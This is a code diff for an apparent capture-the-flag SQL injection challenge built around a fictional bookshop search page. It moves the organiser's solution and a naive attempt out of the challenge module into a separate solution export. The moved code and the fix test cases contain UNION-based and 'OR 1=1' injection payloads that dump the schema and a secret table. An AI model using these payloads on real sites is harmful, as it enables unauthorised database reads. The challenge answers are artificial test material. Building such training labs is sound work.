@@ -1,6 +1,6 @@
 import { createSite, esc, html, page } from '../http.ts';
 import { runQuery } from '../fixcheck.ts';
-import { seen, type ChallengeModule, type FixCase } from '../types.ts';
+import { seen, type ChallengeModule, type ChallengeSolution, type FixCase } from '../types.ts';
 
 const HOST = 'nhasach-phuongnam.test';
 const MARK = 'KHOA-BI-MAT';
@@ -52,16 +52,8 @@ export const sqliUnion: ChallengeModule = {
       },
     } }]);
   },
-  async solve(c) {
-    const tables = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT name, sql FROM sqlite_master --")}`);
-    const secret = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT ma, gia_tri FROM bi_mat --")}`);
-    return seen(tables, secret);
-  },
-  async naive(c) {
-    return seen(await c.get(`http://${HOST}/tim?q=${encodeURIComponent("' OR 1=1 --")}`), await c.get(`http://${HOST}/tim?q=${encodeURIComponent('bi_mat')}`));
-  },
   fix: {
-    fn: 'buildSearchQuery', language: 'javascript', vulnerable: VULNERABLE, reference: REFERENCE,
+    fn: 'buildSearchQuery', language: 'javascript', vulnerable: VULNERABLE,
     cases: [
       blocked("zzz' UNION SELECT ma, gia_tri FROM bi_mat --", 'Chặn UNION đọc bảng bi_mat', 'Block UNION reading table bi_mat'),
       blocked("%' UNION SELECT gia_tri, 1 FROM bi_mat WHERE '1'='1", 'Chặn UNION không dùng chú thích', 'Block UNION without a comment'),
@@ -71,4 +63,17 @@ export const sqliUnion: ChallengeModule = {
       finds('không có sách này', []),
     ],
   },
+};
+
+/** The organiser's reference solution and a beginner's naive attempt (never bundled into the player's page). */
+export const sqliUnionSolution: ChallengeSolution = {
+  async solve(c) {
+    const tables = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT name, sql FROM sqlite_master --")}`);
+    const secret = await c.get(`http://${HOST}/tim?q=${encodeURIComponent("zzz' UNION SELECT ma, gia_tri FROM bi_mat --")}`);
+    return seen(tables, secret);
+  },
+  async naive(c) {
+    return seen(await c.get(`http://${HOST}/tim?q=${encodeURIComponent("' OR 1=1 --")}`), await c.get(`http://${HOST}/tim?q=${encodeURIComponent('bi_mat')}`));
+  },
+  reference: REFERENCE,
 };
